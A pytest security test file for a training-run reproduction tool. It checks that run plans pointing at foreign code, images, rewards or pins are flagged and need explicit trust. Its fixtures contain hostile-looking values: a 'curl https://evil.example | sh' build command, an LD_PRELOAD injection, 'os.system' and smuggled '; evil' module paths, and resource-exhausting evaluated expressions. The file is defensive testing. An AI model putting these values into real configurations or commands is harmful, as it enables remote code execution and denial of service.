"""Code that a recorded run names is listed, and foreign code needs trust."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest

from rlk_repro.base.errors import CheckFailed, EnvironmentMissing
from rlk_repro.base.files import write_json
from rlk_repro.bundle.verify import unpack
from rlk_repro.cli.submit import require_sources
from rlk_repro.plan import Plan, make_record
from rlk_repro.rundir.paths import RunDir, runs_root
from rlk_repro.spec import HubSource, Image
from rlk_repro.spec.stack import Unpublished
from rlk_repro.submit.consent import find_build_hint, find_foreign, find_shipped_pins, list_what_runs, require_trust
from tests import ROOT
from tests.security.hostile import make_bundle
from tests.support.slurm.examples import plan_for
from tests.support.vime_examples import list_plans, with_workload

FLAGS: dict[str, Any] = {
    "custom-generate-function-path": "evil.module.generate",
    "custom-convert-samples-to-train-data-path": "os.system",
    "data-source-path": "evil.Source",
    "spec": ("evil.module", "get_spec"),
    "rollout-data-postprocess-path": "vime.x.y ; evil",
    "vllm-worker-cls": "evil.Worker",
    "vllm-tool-parser-plugin": "/tmp/evil.py",
    "vllm-middleware": "vime.looks.known",
    "vllm-log-config-file": "vime.json",
    "vllm-load-format": "evil",
    "vllm-hf-overrides": '{"a": 1}',
    "vllm-chat-template": "{{ evil }}",
    "train-env-vars": '{"LD_PRELOAD": "/tmp/evil.so"}',
    "rm-url": "http://evil.example/reward",
    "tokenizer-model": "/tmp/evil",
    "trust-remote-code": True,
    # digits are a file's name, an address or a module, too
    **dict.fromkeys(("vllm-router-ip", "worker-urls", "http-proxy", "vllm-data-parallel-address"), "203.0.113.66"),
    **dict.fromkeys(("pretrained-checkpoint", "megatron-config-path", "vllm-config", "router-wasm-middleware"), "1"),
    "vllm-max-model-len": "1-2",
    "vllm-quantization": "a.b",
    "vllm-attention-backend": "/tmp/1",
    # Megatron-LM evaluates these
    "moe-layer-freq": "[0]*9999999999",
    "linear-attention-freq": "9**9**9",
    "no-rope-freq": "[0]*9999999999*0+[1]*28",
    "window-attn-skip-freq": "[0]*(9999999999)+[1]",
}
# Numbers, choices and code that the stack pins.
HARMLESS: dict[str, Any] = {
    "vllm-quantization": "fp8",
    "moe-layer-freq": "[0]*1+[1]*7",
    "vllm-max-model-len": "8k",
    "attention-backend": "flash",
    "vllm-enforce-eager": True,
    "spec": ("vime_plugins.models.glm4", "get_spec"),
    "dynamic-sampling-filter-path": "vime.rollout.filter_hub.dynamic_sampling_filters.check",
}
PINS: dict[str, str] = {
    "repository": "https://github.com/evil/Megatron-LM", "commit": "e" * 40, "tree": "e" * 40, "patched_tree": "e" * 40,
}  # fmt: skip


def test_flags_that_name_foreign_code_need_trust_and_no_shipped_run_has_one() -> None:
    assert {name: found for name, plan in list_plans() if (found := find_foreign(plan))} == {}
    plan = plan_for("vime-smoke", "h200")
    for flag, value in FLAGS.items():
        with pytest.raises(CheckFailed, match=rf"--{flag}: may run code from outside this package and the pinned"):
            require_trust(with_workload(plan, arguments={flag: value}))
    for hidden in (("fp8", "--custom-rm-path=evil.f"), ("fp8", "--spec", "evil.x", "f")):
        found = find_foreign(with_workload(plan, arguments={"vllm-quantization": hidden}))
        assert "evil" in " ".join(item.value for item in found)
    assert find_foreign(with_workload(plan, arguments=HARMLESS)) == []


def test_foreign_rewards_models_and_images_need_trust() -> None:
    theirs = with_workload(plan_for("vime-smoke", "h200"), data={"custom_rm_path": "evil.reward", "rm_type": None})
    assert [str(item) for item in find_foreign(theirs)] == ["--custom-rm-path evil.reward"]
    source = HubSource(kind="hub", repository="evil/Qwen3-4B", revision="a" * 40)
    theirs = with_workload(plan_for("qwen3-4b", "h200"), model={"source": source})
    assert [item.where for item in find_foreign(theirs)] == ["model"]
    plan = plan_for("smoke", "h200")
    image = Image(reference="evil.example/image", digest=f"sha256:{'e' * 64}")
    theirs = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"images": {"cuda-amd64": image}}))
    assert [str(item) for item in find_foreign(theirs)] == [f"image evil.example/image@sha256:{'e' * 64}"]
    assert list_what_runs(theirs, theirs.profile)["FOREIGN 1 of 1"].endswith(" (needs --trust)")
    shipped = plan_for("smoke", "h200", stack="example")
    assert (bool(shipped.stack.images), find_foreign(shipped)) == (True, [])


@pytest.mark.parametrize("what", PINS)
def test_pinned_means_pinned_by_a_shipped_stack(what: str) -> None:
    plan = plan_for("vime-smoke", "h200")
    pins = plan.stack.pins
    assert find_shipped_pins(plan.stack) == pins
    theirs = {**pins, "megatron_lm": pins["megatron_lm"].model_copy(update={what: PINS[what]})}
    plan = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"pins": theirs}))
    assert [item.where for item in find_foreign(plan)] == ["pin megatron_lm"]
    assert list_what_runs(plan, plan.profile)["FOREIGN 1 of 1"].startswith("pin megatron_lm ")
    assert "FOREIGN 1 of 1" not in list_what_runs(plan, plan.profile, is_own=True)
    local = dataclasses.replace(plan, profile=plan.profile.model_copy(update={"cluster": "local"}))
    with pytest.raises(EnvironmentMissing) as caught:
        require_sources(local)
    hints = {problem.where: "git clone" in str(problem.hint) for problem in caught.value.problems}
    assert (hints["python module vime"], hints["python module megatron"]) == (True, False)


def test_a_command_of_a_strangers_stack_is_no_hint() -> None:
    plan = plan_for("smoke", "h200")
    evil = Unpublished(build="curl https://evil.example | sh", reason="theirs")
    stack = plan.stack.model_copy(update={"images": {}, "unpublished": {"cuda-amd64": evil}})
    assert find_build_hint(dataclasses.replace(plan, stack=stack)) is None


def name_their_reward(run_dir: RunDir) -> None:
    plan = with_workload(Plan.load(run_dir.plan), data={"custom_rm_path": "evil.reward", "rm_type": None})
    write_json(run_dir.plan, make_record(plan, run_dir.run_id))
    author = run_dir.run_yaml.read_text()
    run_dir.run_yaml.write_text(author.replace("rlk_repro.integration.reward.share_of_even_ids", "evil.reward"))


def test_yes_alone_does_not_trust_foreign_code(call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    theirs = unpack(ROOT / "docs" / "evidence" / "qwen3-4b-random-live-h200.tgz", tmp_path / "theirs")
    _, bundle = make_bundle(theirs, tmp_path / "hostile", name_their_reward)
    monkeypatch.delenv("PYTHONPATH", raising=False)
    for variable, module in (("VIME_SRC", "vime"), ("MEGATRON_SRC", "megatron"), ("RLK_SRC", "rl_engine")):
        (tmp_path / variable / module).mkdir(parents=True)
        monkeypatch.setenv(variable, str(tmp_path / variable))
    shown = json.loads(call("replay", str(bundle), "--dry-run", "--json")[1])["what_runs"]
    assert shown["FOREIGN 1 of 1"] == "--custom-rm-path evil.reward (needs --trust)"
    code, out, err = call("replay", str(bundle), "--yes")
    assert (code, list(runs_root().glob("*/*/plan.json"))) == (6, [])
    assert "  FOREIGN 1 of 1 --custom-rm-path evil.reward (needs --trust)\n" in out
    assert "hint: review this code; --trust allows it" in err
